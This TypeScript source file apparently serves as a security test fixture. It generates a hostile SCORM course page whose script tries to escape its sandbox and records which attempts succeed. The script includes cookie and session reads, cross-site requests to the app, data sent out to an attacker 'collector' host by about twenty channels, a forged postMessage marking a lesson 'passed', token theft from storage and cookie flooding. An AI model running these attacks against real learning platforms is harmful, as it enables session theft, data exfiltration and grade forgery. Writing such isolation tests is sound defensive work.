/** Where a hostile content object aims. */
export interface Aims {
  /** Origin of the app's pages. */
  readonly appOrigin: string;
  /** Mount path of the app. */
  readonly base: string;
  /** A server of the attacker's own. */
  readonly collector: string;
}

/**
 * A content object that tries what a hostile package would try, and leaves what came of each in `window.attempts`: the text
 * `refused: …` or `worked: …`. What can only be seen from outside says `tried`.
 */
export function hostileSco({ appOrigin, base, collector }: Aims): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title></head><body><h1>Hostile</h1>
<script>
var APP = ${JSON.stringify(appOrigin)}, BASE = ${JSON.stringify(base)}, OUT = ${JSON.stringify(collector)};
window.attempts = {};
function note(name, work) {
  return Promise.resolve().then(work).then(
    function (value) { window.attempts[name] = value; },
    function (fault) { window.attempts[name] = 'refused: ' + fault; });
}
function timed(promise) { return Promise.race([promise, new Promise(function (done, fail) { setTimeout(function () { fail('no answer'); }, 3000); })]); }
function add(tag, set) { var one = document.createElement(tag); for (var name in set) one.setAttribute(name, set[name]); document.body.append(one); return one; }
function loads(tag, set) {
  return timed(new Promise(function (done, fail) {
    var one = add(tag, set);
    one.onload = function () { done('worked: loaded'); }; one.onerror = function () { fail('blocked'); };
  }));
}
function find(name) { for (var w = window, i = 0; i < 10; w = w.parent, i++) { if (w[name]) return w[name]; if (w === w.parent) return null; } return null; }
find('API').LMSInitialize('');
window.attack = function () {
  return Promise.all([
    note('read cookies of the page above', function () { return 'worked: ' + window.top.document.cookie; }),
    note('read own cookies', function () { return document.cookie === '' ? 'refused: none are sent here' : 'worked: ' + document.cookie; }),
    note('read the page above', function () { return 'worked: ' + window.top.document.title; }),
    note('call the app with the session', function () {
      return timed(fetch(APP + BASE + '/account', { credentials: 'include' })).then(function (answer) { return 'worked: ' + answer.status; }); }),
    note('post to the app with the session', function () {
      return timed(fetch(APP + BASE + '/launches', { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' })).then(function (answer) { return 'worked: ' + answer.type; }); }),
    note('post a form to the app', function () { add('iframe', { name: 'hole' }); add('form', { action: APP + BASE + '/logout', method: 'post', target: 'hole' }).submit(); return 'tried'; }),
    note('frame the app', function () {
      return new Promise(function (done, fail) {
        var frame = add('iframe', { src: APP + BASE + '/account' });
        frame.onload = function () { try { fail(frame.contentDocument ? 'an empty page' : 'an error page'); } catch (fault) { fail(fault); } };
        setTimeout(function () { fail('never loaded'); }, 3000);
      }); }),
    note('register a service worker', function () {
      return navigator.serviceWorker.register('worker.js').then(function () { return 'worked: registered'; }); }),
    note('register a service worker from data', function () {
      return navigator.serviceWorker.register('data:text/javascript,').then(function () { return 'worked: registered'; }); }),
    note('open a window', function () { return window.open('about:blank') ? 'worked: opened' : 'refused: no window'; }),
    note('open a window by a link', function () { add('a', { href: OUT + '/leak-link', target: '_blank' }).click(); return 'tried'; }),
    note('send data out by fetch', function () {
      return timed(fetch(OUT + '/leak-fetch', { mode: 'no-cors' })).then(function () { return 'worked: sent'; }); }),
    note('send data out by a beacon', function () { navigator.sendBeacon(OUT + '/leak-beacon', 'x'); return 'tried'; }),
    note('send data out by a socket', function () {
      return timed(new Promise(function (done, fail) { var socket = new WebSocket(OUT.replace('http', 'ws') + '/leak-socket'); socket.onopen = function () { done('worked: open'); }; socket.onerror = function () { fail('blocked'); }; })); }),
    note('send data out by an event stream', function () {
      return timed(new Promise(function (done, fail) { var stream = new EventSource(OUT + '/leak-stream'); stream.onopen = function () { done('worked: open'); }; stream.onerror = function () { stream.close(); fail('blocked'); }; })); }),
    note('send data out by a worker', function () {
      return timed(new Promise(function (done, fail) {
        var code = 'fetch("' + OUT + '/leak-worker", { mode: "no-cors" }).then(function () { postMessage("sent"); }, function () { postMessage("blocked"); });';
        var worker = new Worker(URL.createObjectURL(new Blob([code])));
        worker.onmessage = function (event) { if (event.data === 'sent') done('worked: sent'); else fail('blocked'); };
        worker.onerror = function () { fail('blocked'); };
      })); }),
    note('send data out by an image', function () { return loads('img', { src: OUT + '/leak-image', alt: '' }); }),
    note('send data out by an image of the app', function () { return loads('img', { src: APP + BASE + '/leak-image-of-the-app', alt: '' }); }),
    note('send data out by a script', function () { return loads('script', { src: OUT + '/leak-script' }); }),
    note('send data out by a style', function () { return loads('link', { rel: 'stylesheet', href: OUT + '/leak-style' }); }),
    note('send data out by a prefetch', function () { add('link', { rel: 'prefetch', href: OUT + '/leak-prefetch' }); add('link', { rel: 'prerender', href: OUT + '/leak-prerender' }); return 'tried'; }),
    note('send data out by media', function () { add('video', { src: OUT + '/leak-video', autoplay: '' }); return 'tried'; }),
    note('send data out by an object', function () { add('object', { data: OUT + '/leak-object' }); add('embed', { src: OUT + '/leak-embed' }); return 'tried'; }),
    note('send data out by a frame', function () { add('iframe', { src: OUT + '/leak-frame' }); return 'tried'; }),
    note('send data out by a form', function () { add('iframe', { name: 'sink' }); add('form', { action: OUT + '/leak-form', method: 'post', target: 'sink' }).submit(); return 'tried'; }),
    note('send data out by a ping', function () { add('a', { href: '#here', ping: OUT + '/leak-ping' }).click(); return 'tried'; }),
    note('navigate the top page', function () { window.top.location = 'about:blank#taken'; return 'tried'; }),
    note('speak to the page above in the name of the API frame', function () {
      window.top.postMessage({ kind: 'changed', scoId: 'bad', record: { 'cmi.core.lesson_status': 'passed' }, trigger: 'commit', final: true }, '*'); return 'tried'; }),
    note('read the launch token', function () {
      var found = [];
      for (var w = window, i = 0; i < 5; w = w.parent, i++) { try { found = found.concat(Object.keys(w.sessionStorage), Object.keys(w.localStorage)); } catch (fault) { found.push('closed'); } if (w === w.parent) break; }
      return found.some(function (key) { return /token/i.test(key); }) ? 'worked: ' + found : 'refused: nothing stored here'; }),
    note('read the outbox', function () {
      return indexedDB.databases().then(function (all) { return all.length === 0 ? 'refused: there is none here' : 'worked: ' + JSON.stringify(all); }); }),
  ]);
};
window.fillCookieJar = function () {
  for (var i = 0; i < 400; i++) document.cookie = 'filler' + i + '=' + 'x'.repeat(1000) + ';path=/;max-age=86400';
};
window.leaveBy = { self: function () { location = OUT + '/leak-self'; }, parent: function () { parent.location = OUT + '/leak-parent'; } };
</script></body></html>`;
}
